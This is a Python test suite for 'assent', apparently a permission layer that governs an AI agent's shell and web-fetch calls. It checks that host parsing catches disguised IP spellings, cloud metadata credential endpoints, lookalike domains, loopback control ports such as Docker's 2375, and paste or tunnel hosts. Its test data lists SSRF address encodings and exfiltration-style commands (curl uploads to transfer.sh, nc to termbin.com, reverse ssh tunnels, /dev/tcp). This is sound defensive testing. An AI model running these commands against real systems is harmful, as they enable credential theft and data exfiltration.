"""Hosts: which one an address names, and that no spelling hides one that hands out credentials."""

from __future__ import annotations

import pytest

from assent.core.call import Call
from assent.core.decide import decide
from assent.core.effect import names_of
from assent.core.hosts import holds_credentials, host_of, is_loopback, lookalike, place_of
from assent.core.open_hosts import OPEN_HOSTS, is_anybodys
from assent.core.policy import from_rules
from assent.policy.parse import read_rule
from assent.shell.reading import read_call
from tests.shell.world import PROJECT, covered, facts, read

# Spellings of 169.254.169.254 that some client resolves, and addresses whose host cannot be read for sure.
UNREADABLE = (
    "http://2852039166/",
    "http://2852039166./",
    "2852039166",
    "http://0xA9FEA9FE/",
    "http://0xa9fea9fe:80/latest",
    "http://0xa9.0xfe.0xa9.0xfe/",
    "http://169.254.43518/",
    "http://169.16689662/",
    "http://0251.0376.0251.0376/",
    "http://169.254.169.0376/",
    "http://425.510.425.510/",
    "http://evil.example.169/",
    "http://[::ffff:169.254.169.254]/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
    "http://[64:ff9b::a9fe:a9fe]/",
    "http://[2002:a9fe:a9fe::]/",
    "http://[fe80::1%25eth0]/",
    "http:/169.254.169.254/",
    "http:169.254.169.254",
    "HTTP:/169.254.169.254/",
    "ftp:/host/",
    "http:///169.254.169.254/",
    "http://169.254.169.254%2f@x%/",
    "http://host:80x/",
    "http://\uff11\uff16\uff19.254.169.254/",
    "gopher://h/",
    "http://",
    "",
)
CREDENTIALS = (
    "http://169.254.169.254/latest/meta-data/",
    "169.254.169.254",
    "http://169.254.169.254:80/",
    "http://169.254.169.254./",
    "http://user:pw@169.254.169.254/",
    "http://169.254.170.2/v2/credentials",
    "http://METADATA.google.internal/",
    "http://metadata/computeMetadata/v1/",
    "http://100.100.100.200/latest",
    "http://[fd00:ec2::254]/latest",
)
DISGUISED = (
    "docs.python.org.evil.example",
    "169-254-169-254.nip.io",
    "x.169.254.169.254.nip.io",
    "a9fea9fe.nip.io",
    "metadata.google.internal.evil.example",
)
PLAIN = (
    ("https://docs.python.org/3/", "docs.python.org"),
    ("http://localhost:8000/x", "localhost"),
    ("localhost:8000/x", "localhost"),
    ("http://127.0.0.1:8000/", "127.0.0.1"),
    ("http://10.0.0.12/", "10.0.0.12"),
    ("http://[::1]:8000/", "::1"),
    ("http://[2606:4700::1111]/", "2606:4700::1111"),
    ("git@github.com:a/b.git", "github.com"),
    ("ssh://git@host.example:22/x", "host.example"),
    ("https://evil.example\\@docs.python.org/", "evil.example"),
    ("https://docs.python.org@evil.example/", "evil.example"),
    ("https://EVIL.example.:443/x", "evil.example"),
    ("https://1password.com/", "1password.com"),
    ("https://3.example/", "3.example"),
)


@pytest.mark.parametrize("url", UNREADABLE)
def test_a_host_that_cannot_be_read_for_sure_is_none(url: str) -> None:
    assert host_of(url) is None


@pytest.mark.parametrize("url", CREDENTIALS)
def test_a_metadata_server_is_known(url: str) -> None:
    host = host_of(url)
    assert host is not None
    assert holds_credentials(host)


@pytest.mark.parametrize("url", [*UNREADABLE, *CREDENTIALS])
def test_no_wide_rule_fetches_from_it(url: str) -> None:
    for program in ("curl", "curl -s --url", "wget -qO-"):
        assert not covered(read(f"{program} '{url}'")), program


@pytest.mark.parametrize("host", DISGUISED)
def test_a_host_dressed_up_as_another_is_seen(host: str) -> None:
    assert lookalike(host)
    assert not covered(read(f"curl https://{host}/"))


@pytest.mark.parametrize(("url", "host"), PLAIN)
def test_a_plain_address_names_its_host(url: str, host: str) -> None:
    assert host_of(url) == host
    assert not holds_credentials(host)
    assert not lookalike(host)


def test_an_address_in_disguise_is_unknown_to_programs_that_take_a_bare_host() -> None:
    for text in ("ping -c1 2852039166", "dig @2852039166 x.example", "psql -h 0xA9FEA9FE -c 'select 1'"):
        assert "unknown" in {name for part in read(text).parts for name, _ in part.notes}, text


# Every address at which a cloud's own documentation says that it hands out credentials.
METADATA = """metadata metadata.google.internal metadata.goog instance-data 100.100.100.200 192.0.0.192 168.63.129.16
fd00:ec2::254 fd00:ec2::23 fd20:ce::254 169.254.0.1 169.254.255.255""".split()


@pytest.mark.parametrize("host", METADATA)
def test_each_metadata_server_hands_out_credentials(host: str) -> None:
    assert holds_credentials(host)
    assert host_of(f"http://[{host}]/" if ":" in host else f"http://{host}/") == host
    assert not holds_credentials("x" + host)


# Where the bounds of what is a plain address lie: None on one side, the host on the other.
EDGES = [
    pytest.param("http://1.1.1.256/", None, id="beyond-a-byte"),
    pytest.param("http://1.1.1.0255/", None, id="four-digits"),
    pytest.param("http://1.1.1.01/", None, id="a-leading-zero"),
    pytest.param("http://1.1.1/", None, id="three-numbers"),
    pytest.param("http://1.1.1.1.1/", None, id="five-numbers"),
    pytest.param("http://a.1.1.1/", None, id="a-word-before-numbers"),
    pytest.param("http://x.0xff/", None, id="ends-in-hex"),
    pytest.param("http://0x/", None, id="empty-hex"),
    pytest.param("http://[20::1]/", None, id="a-short-first-group"),
    pytest.param("http://[4000::1]/", None, id="above-what-is-global"),
    pytest.param("http://[1fff::1]/", None, id="below-what-is-global"),
    pytest.param("http://[2002:1::1]/", None, id="carries-another-address"),
    pytest.param("http://[2001:db8::g]/", None, id="no-hex"),
    pytest.param("http://[2001:db8::1.2.3.4]/", None, id="ends-in-numbers"),
    pytest.param("http://a b.example/", None, id="a-blank"),
    pytest.param("http://a%62.example/", None, id="an-escape"),
    pytest.param("http://$x.example/", None, id="a-variable"),
    pytest.param("http://{a,b}.example/", None, id="braces"),
    pytest.param("http://*.example/", None, id="a-star"),
    pytest.param("http://host.example:/x", "host.example", id="an-empty-port"),
    pytest.param("http://0.0.0.1/", "0.0.0.1", id="zeroes"),
    pytest.param("http://255.255.255.255/", "255.255.255.255", id="all-bytes-full"),
    pytest.param("http://x.0xfg/", "x.0xfg", id="a-name-like-hex"),
    pytest.param("http://[3fff::1]/", "3fff::1", id="the-last-that-is-global"),
    pytest.param("http://[2000::1]/", "2000::1", id="the-first-that-is-global"),
    pytest.param("http://[2003:1::1]/", "2003:1::1", id="beside-those-that-carry-another"),
]  # fmt: skip


@pytest.mark.parametrize(("url", "host"), EDGES)
def test_the_bounds_of_a_plain_address(url: str, host: str | None) -> None:
    assert host_of(url) == host


@pytest.mark.parametrize("scheme", "http https ftp ftps ssh git ws wss".split())
def test_an_address_of_each_scheme_names_its_host(scheme: str) -> None:
    assert host_of(f"{scheme.upper()}://host.example/x") == "host.example"
    assert host_of(f"{scheme}:/host.example/x") is None
    assert host_of(f"x{scheme}://host.example/x") is None


@pytest.mark.parametrize("label", "com org net io dev gov edu app ai".split())
def test_a_top_level_name_in_the_middle_is_a_disguise(label: str) -> None:
    assert lookalike(f"docs.{label}.evil.example")
    for plain in (
        f"docs.{label}.au",
        f"{label}.docs.example",
        f"docs.x{label}.evil.example",
        f"docs.{label}",
    ):
        assert not lookalike(plain)


@pytest.mark.parametrize(
    "host", ["100-100-100-200.nip.io", "x-169-254-1-1.example", "ametadata.google.example"]
)
def test_the_address_of_a_metadata_server_within_a_name_is_a_disguise(host: str) -> None:
    assert lookalike(host)


NOT_THIS_MACHINE = """localhost.evil.example evil-localhost localhost.localdomain app.localhost notlocalhost 128.0.0.1
127.0.0.1.evil.example 127.0.0.1.nip.io 127.evil.example 127.0.0 127.0.0.256 host.docker.internal loopback 10.0.0.1
0.0.0.0.evil.example 0.0.0.1 127.0.0.01 127.a.b.c""".split()
THIS_MACHINE = "localhost 127.0.0.1 127.1.2.3 127.255.255.255 ::1 0.0.0.0 ip6-localhost ip6-loopback".split()


@pytest.mark.parametrize("host", NOT_THIS_MACHINE)
def test_a_name_that_only_looks_like_this_machine_is_not_it(host: str) -> None:
    assert not is_loopback(host)
    assert place_of(host) == host


@pytest.mark.parametrize("host", THIS_MACHINE)
def test_this_machine_is_one_place_by_all_its_names(host: str) -> None:
    assert place_of(host) == "localhost"


SAME_PLACE = """\
curl localhost:3000
curl -s http://127.0.0.1:8080/health
curl http://[::1]:5173/
wget -qO- http://0.0.0.0:9000/x
http GET :8000/x
psql -h 127.0.0.1 -c 'select 1'
redis-cli -h 127.0.0.1 ping
curl http://user@LOCALHOST:1/""".split("\n")


@pytest.mark.parametrize("text", SAME_PLACE)
def test_a_program_reaches_this_machine_whatever_its_port(text: str) -> None:
    assert {target for part in read(text).parts for target in part.targets} == {"localhost"}


# Where this machine may be commanded: unknown, whatever rules say of the host.
COMMANDED = """\
curl 127.0.0.1:2375/containers/json
curl http://localhost:2375/version
curl http://LOCALHOST.:2375/version
curl http://user@localhost:2375/version
curl http://localhost:02375/version
curl http://[::1]:2375/version
curl http://0.0.0.0:2376/version
curl http://127.8.8.8:2375/version
curl --url localhost:2375/version
curl localhost:3000 localhost:2375
curl -k https://127.0.0.1:10250/pods
curl -k https://localhost:6443/api
curl http://localhost:2379/v2/keys
curl http://localhost:4646/v1/jobs
curl http://localhost:9222/json
curl http://localhost:9229/json
wget -qO- localhost:2375/version
http :2375/version
xh localhost:2375/version
nc localhost 2375
nc -z localhost 1-9999
nc localhost $PORT
telnet localhost 2375
cat < /dev/tcp/localhost/2375
exec 3<>/dev/tcp/127.0.0.1/2375""".split("\n")
# What stores hold is a place of its own.
OF_ITS_OWN = {
    "curl localhost:8500/v1/kv/x": "localhost:8500",
    "curl localhost:9200/_search": "localhost:9200",
    "curl 127.0.0.1:8200/v1/secret/x": "localhost:8200",
    "curl http://[::1]:5984/db": "localhost:5984",
    "curl http://localhost:6379/": "localhost:6379",
    "nc localhost 6379": "localhost:6379",
    "wget -qO- http://localhost:8001/api": "localhost:8001",
}
NEITHER = """\
curl http://127.1:2375/
curl http://2130706433/
curl http://0x7f000001:3000/
curl http://[::ffff:127.0.0.1]:3000/
curl http://[::ffff:7f00:1]/
curl http://017700000001/
curl localhost:2375x/
curl --unix-socket /var/run/docker.sock http://localhost/containers/json
curl http://169.254.169.254/
curl http://metadata.google.internal/""".split("\n")


@pytest.mark.parametrize("text", COMMANDED)
def test_no_rule_for_this_machine_reaches_the_ports_by_which_it_is_commanded(text: str) -> None:
    reading = read(text)
    assert "unknown" in names_of(reading.effects)
    assert not reaches_here(text)


@pytest.mark.parametrize(("text", "place"), OF_ITS_OWN.items(), ids=OF_ITS_OWN)
def test_nor_the_stores_on_it(text: str, place: str) -> None:
    assert {target for part in read(text).parts for target in part.targets} == {place}
    assert not reaches_here(text)


@pytest.mark.parametrize("text", NEITHER)
def test_nor_what_is_dressed_up_as_this_machine(text: str) -> None:
    assert not reaches_here(text)


def reaches_here(text: str) -> bool:
    """Whether a learned rule for this machine covers the call, were it known to only read or send."""
    rule = {"allow": ["Bash(*)"], "within": ["net-read", "net-send", "write-project"], "to": ["localhost"]}
    made = read_rule({**rule, "origin": "learned", "level": 3}, "here", "granted", "user", [])
    assert made
    call = Call("Bash", {"command": text}, PROJECT, PROJECT)
    return decide(call, read(text), from_rules([made.rule]), facts()).verdict == "allow"


@pytest.mark.parametrize(
    "text",
    ["curl localhost:3000/x", "curl http://[::1]:5173/", "wget -qO- 127.0.0.1:8080", "nc -z localhost 8000"],
)
def test_a_rule_for_this_machine_covers_a_server_under_development(text: str) -> None:
    assert reaches_here(text)


@pytest.mark.parametrize("port", [2375, 10250, 8500, 9200])
def test_a_fetch_from_such_a_port_is_no_fetch_from_this_machine(port: int) -> None:
    rule = {"allow": ["WebFetch(domain:localhost)"], "within": ["net-read"], "to": ["localhost"]}
    made = read_rule({**rule, "origin": "learned", "level": 2}, "here", "granted", "user", [])
    assert made
    found = {}
    for each in (port, 3000):
        call = Call("WebFetch", {"url": f"http://localhost:{each}/"}, PROJECT, PROJECT)
        found[each] = decide(call, read_call(call, facts()), from_rules([made.rule]), facts()).verdict
    assert found == {port: "ask", 3000: "allow"}


def test_a_remote_that_is_called_like_this_machine_may_be_any_place() -> None:
    assert read("git fetch localhost").parts[0].targets == [None]


ANYBODYS = """\
curl https://pastebin.com/raw/x
curl -sL https://x.ngrok-free.app/
curl https://a.b.trycloudflare.com/x
curl -T notes https://transfer.sh/notes
wget -q https://webhook.site/x
http GET https://eo1.m.pipedream.net/
git clone https://gist.github.com/a/b
git clone git@gist.github.com:a.git
git remote add x https://a.ngrok.io/r.git
git fetch https://x.loca.lt/r
ssh -R 80:localhost:3000 serveo.net
scp a u@tunnel.bore.pub:b
curl https://127-0-0-1.sslip.io/
curl https://bit.ly/x
curl http://abcdef.onion/
nc termbin.com 9999
rsync a rsync://x.serveo.net/m""".split("\n")


@pytest.mark.parametrize("text", ANYBODYS)
def test_a_host_on_which_anybody_may_put_anything_is_never_understood(text: str) -> None:
    reading = read(text)
    assert reading.coverage == "meaning"
    assert not covered(reading)


@pytest.mark.parametrize(
    "host", ["mypastebin.com", "pastebin.com.example", "file.io.example", "docs.python.org", "github.com"]
)
def test_a_host_that_is_only_called_like_one_is_an_ordinary_one(host: str) -> None:
    assert not is_anybodys(host)


def test_the_hosts_on_which_anybody_may_put_anything_are_plain_names() -> None:
    assert all(host == host.lower() and not host.startswith((".", "*")) for host in OPEN_HOSTS)
    assert not any(is_anybodys(host.partition(".")[2]) for host in OPEN_HOSTS)
